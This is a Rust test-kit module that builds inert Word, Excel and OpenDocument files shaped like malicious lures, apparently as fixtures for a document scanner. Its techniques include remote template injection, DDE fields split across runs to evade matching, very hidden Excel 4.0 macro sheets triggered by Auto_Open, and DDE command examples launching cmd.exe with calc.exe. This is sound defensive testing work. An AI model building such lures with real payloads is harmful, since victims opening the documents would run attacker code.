//! Office Open XML and OpenDocument packages shaped like weaponised
//! lures, but inert: remote templates point to `example` domains, DDE
//! fields start `calc.exe` at most, macro projects and OLE objects are
//! bytes the caller chooses, Excel 4.0 macros only show an alert.
//!
//! - [`DocxBuilder`]: a Word document with text, hyperlinks, any
//!   external relationship, an external `attachedTemplate` (in
//!   `word/_rels/settings.xml.rels`), a DDE field split over several
//!   runs, a `vbaProject.bin`, an embedded `oleObject1.bin` and an
//!   ActiveX control.
//! - [`xlsm_excel4`]: a workbook with a very hidden Excel 4.0 macro sheet
//!   run by an `Auto_Open` defined name.
//! - [`xlsx_dde_link`]: a workbook with a DDE external link.
//! - [`odt`]: an OpenDocument text, optionally with a StarBasic module.
//!
//! Every builder returns the package bytes (a deflated zip, built with
//! [`crate::archive::zip`]); [`DocxBuilder::parts`] gives the parts
//! before zipping, for tests that damage one.
//!
//! ```
//! use counterspy_testkit::ooxml::DocxBuilder;
//! let docx = DocxBuilder::new()
//!     .text("Invoice attached")
//!     .attached_template("http://templates.example/a.dotm")
//!     .dde_field("DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc.exe\"", 4)
//!     .build();
//! assert!(docx.starts_with(b"PK\x03\x04"));
//! ```

use crate::archive;

/// The WordprocessingML namespace.
const W: &str = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
/// The relationships namespace of markup.
const R: &str =
    "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
/// The package relationships namespace.
const PKG_RELS: &str =
    "http://schemas.openxmlformats.org/package/2006/relationships";
/// The SpreadsheetML namespace.
const S: &str = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
/// The content types namespace.
const CT: &str =
    "http://schemas.openxmlformats.org/package/2006/content-types";

/// The class id of the `Forms.CommandButton.1` ActiveX control.
pub const COMMAND_BUTTON: &str = "{D7053240-CE69-11CD-A777-00DD01143C57}";

/// The parts of a package: name and content.
pub type Parts = Vec<(String, Vec<u8>)>;

/// Escapes `text` for XML content and attribute values.
pub fn escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
}

/// A relationship element.
fn rel(id: &str, ty: &str, target: &str, external: bool) -> String {
    let mode = if external { r#" TargetMode="External""# } else { "" };
    format!(
        r#"<Relationship Id="{id}" Type="{ty}" Target="{}"{mode}/>"#,
        escape(target)
    )
}

/// A relationships part of `rels`.
fn rels_part(rels: &[String]) -> Vec<u8> {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Relationships xmlns="{PKG_RELS}">{}</Relationships>"#,
        rels.concat()
    )
    .into_bytes()
}

/// A `[Content_Types].xml` with `xml`/`rels` defaults, `defaults`
/// (extension, type) and `overrides` (part, type).
fn content_types(
    defaults: &[(&str, &str)],
    overrides: &[(&str, &str)],
) -> Vec<u8> {
    let mut body = String::from(
        r#"<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/><Default Extension="xml" ContentType="application/xml"/>"#,
    );
    for (ext, ty) in defaults {
        body += &format!(r#"<Default Extension="{ext}" ContentType="{ty}"/>"#);
    }
    for (part, ty) in overrides {
        body +=
            &format!(r#"<Override PartName="/{part}" ContentType="{ty}"/>"#);
    }
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><Types xmlns="{CT}">{body}</Types>"#
    )
    .into_bytes()
}

/// The package relationship to the main part `target`.
fn root_rels(target: &str) -> Vec<u8> {
    rels_part(&[rel("rId1", &format!("{R}/officeDocument"), target, false)])
}

/// Builds a Word document (`.docx`, or `.docm` once a VBA project is
/// added). Parts are written as Word writes them; see each method.
#[derive(Clone, Debug, Default)]
pub struct DocxBuilder {
    body: String,
    rels: Vec<String>,
    overrides: Vec<(String, String)>,
    extra: Parts,
    template: Option<String>,
    macro_enabled: bool,
}

impl DocxBuilder {
    /// An empty document.
    pub fn new() -> DocxBuilder {
        DocxBuilder::default()
    }

    /// The next free relationship id of `word/_rels/document.xml.rels`.
    fn next_id(&self) -> String {
        format!("rId{}", self.rels.len() + 10)
    }

    /// Adds a paragraph of `text`.
    pub fn text(mut self, text: &str) -> DocxBuilder {
        self.body += &format!(
            r#"<w:p><w:r><w:t xml:space="preserve">{}</w:t></w:r></w:p>"#,
            escape(text)
        );
        self
    }

    /// Adds a paragraph with a hyperlink to `url` (an external
    /// `hyperlink` relationship).
    pub fn hyperlink(mut self, url: &str) -> DocxBuilder {
        let id = self.next_id();
        self.rels.push(rel(&id, &format!("{R}/hyperlink"), url, true));
        self.body += &format!(
            r#"<w:p><w:hyperlink r:id="{id}"><w:r><w:t>{}</w:t></w:r></w:hyperlink></w:p>"#,
            escape(url)
        );
        self
    }

    /// Adds an external relationship of type `short_type` (the last
    /// segment of the type URI, such as `oleObject` or `image`) to
    /// `target` in `word/_rels/document.xml.rels`.
    pub fn external(mut self, short_type: &str, target: &str) -> DocxBuilder {
        let id = self.next_id();
        self.rels.push(rel(&id, &format!("{R}/{short_type}"), target, true));
        self
    }

    /// Attaches the template at `url`: `word/settings.xml` names it and
    /// `word/_rels/settings.xml.rels` holds the external
    /// `attachedTemplate` relationship (remote template injection).
    pub fn attached_template(mut self, url: &str) -> DocxBuilder {
        self.template = Some(url.to_owned());
        self
    }

    /// Adds a complex field whose instruction `instr` is split over
    /// `runs` runs (at least one), each a `w:instrText`, with a
    /// `separate` mark and a result run, as lures do.
    pub fn dde_field(mut self, instr: &str, runs: usize) -> DocxBuilder {
        let chars: Vec<char> = instr.chars().collect();
        let size = chars.len().div_ceil(runs.max(1)).max(1);
        let mut p = String::from(
            r#"<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>"#,
        );
        for piece in chars.chunks(size) {
            let piece: String = piece.iter().collect();
            p += &format!(
                r#"<w:r><w:instrText xml:space="preserve">{}</w:instrText></w:r>"#,
                escape(&piece)
            );
        }
        p += r#"<w:r><w:fldChar w:fldCharType="separate"/></w:r><w:r><w:t>Error! No topic specified.</w:t></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>"#;
        self.body += &p;
        self
    }

    /// Adds `word/vbaProject.bin` holding `bytes` (its relationship and
    /// content type), and makes the document macro-enabled.
    pub fn vba_project(mut self, bytes: &[u8]) -> DocxBuilder {
        let id = self.next_id();
        let ty = "http://schemas.microsoft.com/office/2006/relationships/vbaProject";
        self.rels.push(rel(&id, ty, "vbaProject.bin", false));
        self.overrides.push((
            "word/vbaProject.bin".into(),
            "application/vnd.ms-office.vbaProject".into(),
        ));
        self.extra.push(("word/vbaProject.bin".into(), bytes.to_vec()));
        self.macro_enabled = true;
        self
    }

    /// Embeds `word/embeddings/oleObject1.bin` holding `bytes`, shown by
    /// an `o:OLEObject` of ProgID `Package`.
    pub fn ole_object(mut self, bytes: &[u8]) -> DocxBuilder {
        let id = self.next_id();
        self.rels.push(rel(
            &id,
            &format!("{R}/oleObject"),
            "embeddings/oleObject1.bin",
            false,
        ));
        self.overrides.push((
            "word/embeddings/oleObject1.bin".into(),
            "application/vnd.openxmlformats-officedocument.oleObject".into(),
        ));
        self.extra
            .push(("word/embeddings/oleObject1.bin".into(), bytes.to_vec()));
        self.body += &format!(
            r#"<w:p><w:r><w:object><o:OLEObject xmlns:o="urn:schemas-microsoft-com:office:office" Type="Embed" ProgID="Package" r:id="{id}"/></w:object></w:r></w:p>"#
        );
        self
    }

    /// Adds an ActiveX control of class `classid`:
    /// `word/activeX/activeX1.xml` and its persistence
    /// `word/activeX/activeX1.bin` (inert bytes).
    pub fn activex(mut self, classid: &str) -> DocxBuilder {
        let id = self.next_id();
        self.rels.push(rel(
            &id,
            &format!("{R}/control"),
            "activeX/activeX1.xml",
            false,
        ));
        self.overrides.push((
            "word/activeX/activeX1.xml".into(),
            "application/vnd.ms-office.activeX+xml".into(),
        ));
        let ax = format!(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="no"?><ax:ocx ax:classid="{classid}" ax:persistence="persistStorage" r:id="rId1" xmlns:ax="http://schemas.microsoft.com/office/2006/activeX" xmlns:r="{R}"/>"#
        );
        let bin_ty = "http://schemas.microsoft.com/office/2006/relationships/activeXControlBinary";
        self.extra.push(("word/activeX/activeX1.xml".into(), ax.into_bytes()));
        self.extra.push((
            "word/activeX/_rels/activeX1.xml.rels".into(),
            rels_part(&[rel("rId1", bin_ty, "activeX1.bin", false)]),
        ));
        self.extra.push((
            "word/activeX/activeX1.bin".into(),
            b"inert activex persistence".to_vec(),
        ));
        self.body += &format!(
            r#"<w:p><w:r><w:object><w:control r:id="{id}" w:name="CommandButton1"/></w:object></w:r></w:p>"#
        );
        self
    }

    /// The parts of the document, in zip order.
    pub fn parts(&self) -> Parts {
        let main = if self.macro_enabled {
            "application/vnd.ms-word.document.macroEnabled.main+xml"
        } else {
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"
        };
        let mut overrides = vec![("word/document.xml", main)];
        overrides.extend(
            self.overrides.iter().map(|(p, t)| (p.as_str(), t.as_str())),
        );
        let mut rels =
            vec![rel("rId1", &format!("{R}/settings"), "settings.xml", false)];
        rels.extend(self.rels.iter().cloned());
        let document = format!(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:document xmlns:w="{W}" xmlns:r="{R}"><w:body>{}<w:sectPr/></w:body></w:document>"#,
            self.body
        );
        let mut parts: Parts = vec![
            ("[Content_Types].xml".into(), content_types(&[], &overrides)),
            ("_rels/.rels".into(), root_rels("word/document.xml")),
            ("word/document.xml".into(), document.into_bytes()),
            ("word/_rels/document.xml.rels".into(), rels_part(&rels)),
        ];
        parts.extend(self.settings());
        parts.extend(self.extra.iter().cloned());
        parts
    }

    /// `word/settings.xml`, and its relationships when a template is
    /// attached.
    fn settings(&self) -> Parts {
        let attached = if self.template.is_some() {
            r#"<w:attachedTemplate r:id="rId1"/>"#
        } else {
            ""
        };
        let settings = format!(
            r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><w:settings xmlns:w="{W}" xmlns:r="{R}">{attached}</w:settings>"#
        );
        let mut parts: Parts =
            vec![("word/settings.xml".into(), settings.into_bytes())];
        if let Some(url) = &self.template {
            let ty = format!("{R}/attachedTemplate");
            let rels = rels_part(&[rel("rId1", &ty, url, true)]);
            parts.push(("word/_rels/settings.xml.rels".into(), rels));
        }
        parts
    }

    /// The document as a zip.
    pub fn build(&self) -> Vec<u8> {
        zip_parts(&self.parts())
    }
}

/// A zip of `parts`.
pub fn zip_parts(parts: &[(String, Vec<u8>)]) -> Vec<u8> {
    let entries: Vec<(&str, &[u8])> =
        parts.iter().map(|(n, d)| (n.as_str(), d.as_slice())).collect();
    archive::zip(&entries)
}

/// A workbook part listing `sheets` (name, state, relationship id) and
/// `defined` names (name, reference).
fn workbook(
    sheets: &[(&str, &str, &str)],
    defined: &[(&str, &str)],
    extra: &str,
) -> Vec<u8> {
    let sheets: String = sheets
        .iter()
        .enumerate()
        .map(|(i, (name, state, id))| {
            let state = if state.is_empty() {
                String::new()
            } else {
                format!(r#" state="{state}""#)
            };
            format!(
                r#"<sheet name="{name}" sheetId="{}"{state} r:id="{id}"/>"#,
                i + 1
            )
        })
        .collect();
    let names: String = defined
        .iter()
        .map(|(n, r)| {
            format!(r#"<definedName name="{n}">{}</definedName>"#, escape(r))
        })
        .collect();
    let names = if names.is_empty() {
        names
    } else {
        format!("<definedNames>{names}</definedNames>")
    };
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><workbook xmlns="{S}" xmlns:r="{R}"><sheets>{sheets}</sheets>{extra}{names}</workbook>"#
    )
    .into_bytes()
}

/// An empty worksheet with one string cell.
fn worksheet(text: &str) -> Vec<u8> {
    format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="{S}"><sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{}</t></is></c></row></sheetData></worksheet>"#,
        escape(text)
    )
    .into_bytes()
}

/// A macro-enabled workbook (`.xlsm`) whose sheet `Macro1` is a very
/// hidden Excel 4.0 macro sheet holding `formulas` in column A, run on
/// open by the defined name `_xlnm.Auto_Open` → `Macro1!$A$1`, next to a
/// visible worksheet `Sheet1`.
pub fn xlsm_excel4(formulas: &[&str]) -> Vec<u8> {
    let cells: String = formulas
        .iter()
        .enumerate()
        .map(|(i, f)| {
            format!(
                r#"<row r="{n}"><c r="A{n}"><f>{}</f></c></row>"#,
                escape(f),
                n = i + 1
            )
        })
        .collect();
    let sheet = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><xm:macrosheet xmlns="{S}" xmlns:xm="http://schemas.microsoft.com/office/excel/2006/main"><sheetData>{cells}</sheetData></xm:macrosheet>"#
    );
    let macro_ty =
        "http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet";
    let rels = [
        rel("rId1", macro_ty, "macrosheets/sheet1.xml", false),
        rel("rId2", &format!("{R}/worksheet"), "worksheets/sheet1.xml", false),
    ];
    let book = workbook(
        &[("Macro1", "veryHidden", "rId1"), ("Sheet1", "", "rId2")],
        &[("_xlnm.Auto_Open", "Macro1!$A$1")],
        "",
    );
    let types = content_types(
        &[],
        &[
            (
                "xl/workbook.xml",
                "application/vnd.ms-excel.sheet.macroEnabled.main+xml",
            ),
            (
                "xl/macrosheets/sheet1.xml",
                "application/vnd.ms-excel.macrosheet+xml",
            ),
            (
                "xl/worksheets/sheet1.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml",
            ),
        ],
    );
    zip_parts(&[
        ("[Content_Types].xml".into(), types),
        ("_rels/.rels".into(), root_rels("xl/workbook.xml")),
        ("xl/workbook.xml".into(), book),
        ("xl/_rels/workbook.xml.rels".into(), rels_part(&rels)),
        ("xl/macrosheets/sheet1.xml".into(), sheet.into_bytes()),
        (
            "xl/worksheets/sheet1.xml".into(),
            worksheet("Enable content to view"),
        ),
    ])
}

/// A workbook (`.xlsx`) with a DDE external link to `service` and
/// `topic` (`cmd`, `/c calc.exe`), as Excel saves `=cmd|'/c calc.exe'!A0`.
pub fn xlsx_dde_link(service: &str, topic: &str) -> Vec<u8> {
    let link = format!(
        r#"<?xml version="1.0" encoding="UTF-8" standalone="yes"?><externalLink xmlns="{S}"><ddeLink ddeService="{}" ddeTopic="{}"><ddeItems><ddeItem name="A0" advise="1"/></ddeItems></ddeLink></externalLink>"#,
        escape(service),
        escape(topic)
    );
    let rels = [
        rel("rId1", &format!("{R}/worksheet"), "worksheets/sheet1.xml", false),
        rel(
            "rId2",
            &format!("{R}/externalLink"),
            "externalLinks/externalLink1.xml",
            false,
        ),
    ];
    let refs = r#"<externalReferences><externalReference r:id="rId2"/></externalReferences>"#;
    let book = workbook(&[("Sheet1", "", "rId1")], &[], refs);
    let types = content_types(
        &[],
        &[
            (
                "xl/workbook.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml",
            ),
            (
                "xl/externalLinks/externalLink1.xml",
                "application/vnd.openxmlformats-officedocument.spreadsheetml.externalLink+xml",
            ),
        ],
    );
    zip_parts(&[
        ("[Content_Types].xml".into(), types),
        ("_rels/.rels".into(), root_rels("xl/workbook.xml")),
        ("xl/workbook.xml".into(), book),
        ("xl/_rels/workbook.xml.rels".into(), rels_part(&rels)),
        ("xl/worksheets/sheet1.xml".into(), worksheet("Quarterly figures")),
        ("xl/externalLinks/externalLink1.xml".into(), link.into_bytes()),
    ])
}

/// An OpenDocument text (`.odt`) with `text` as its one paragraph, and,
/// when `basic` is given, a StarBasic module `Basic/Standard/Module1.xml`
/// holding that source.
pub fn odt(text: &str, basic: Option<&str>) -> Vec<u8> {
    let content = format!(
        r#"<?xml version="1.0" encoding="UTF-8"?><office:document-content xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.3"><office:body><office:text><text:p>{}</text:p></office:text></office:body></office:document-content>"#,
        escape(text)
    );
    let manifest = r#"<?xml version="1.0" encoding="UTF-8"?><manifest:manifest xmlns:manifest="urn:oasis:names:tc:opendocument:xmlns:manifest:1.0" manifest:version="1.3"><manifest:file-entry manifest:full-path="/" manifest:media-type="application/vnd.oasis.opendocument.text"/><manifest:file-entry manifest:full-path="content.xml" manifest:media-type="text/xml"/></manifest:manifest>"#;
    let mut parts: Parts = vec![
        (
            "mimetype".into(),
            b"application/vnd.oasis.opendocument.text".to_vec(),
        ),
        ("META-INF/manifest.xml".into(), manifest.as_bytes().to_vec()),
        ("content.xml".into(), content.into_bytes()),
    ];
    if let Some(source) = basic {
        let module = format!(
            r#"<?xml version="1.0" encoding="UTF-8"?><script:module xmlns:script="http://openoffice.org/2000/script" script:name="Module1" script:language="StarBasic">{}</script:module>"#,
            escape(source)
        );
        parts.push(("Basic/Standard/Module1.xml".into(), module.into_bytes()));
    }
    zip_parts(&parts)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn dde_field_is_split_over_runs() {
        let parts = DocxBuilder::new().dde_field("DDEAUTO abcdef", 3).parts();
        let doc = String::from_utf8(parts[2].1.clone()).unwrap();
        assert_eq!(doc.matches("<w:instrText").count(), 3);
        assert!(!doc.contains("DDEAUTO abcdef"));
    }

    #[test]
    fn template_goes_to_settings_rels() {
        let parts =
            DocxBuilder::new().attached_template("http://t.example/x").parts();
        let names: Vec<&str> = parts.iter().map(|(n, _)| n.as_str()).collect();
        assert!(names.contains(&"word/_rels/settings.xml.rels"));
    }

    #[test]
    fn vba_makes_it_macro_enabled() {
        let parts = DocxBuilder::new().vba_project(b"x").parts();
        let types = String::from_utf8(parts[0].1.clone()).unwrap();
        assert!(types.contains("macroEnabled"));
    }
}
